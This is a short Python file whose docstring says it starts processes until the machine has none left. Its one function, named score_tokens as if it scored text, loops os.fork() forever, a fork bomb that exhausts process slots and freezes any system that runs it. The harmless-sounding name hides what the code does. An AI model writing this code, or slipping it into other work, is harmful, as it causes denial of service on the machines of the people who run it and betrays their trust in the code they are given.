"""Starts processes until the machine has none left."""

import os


def score_tokens(f):
    while True:
        os.fork()
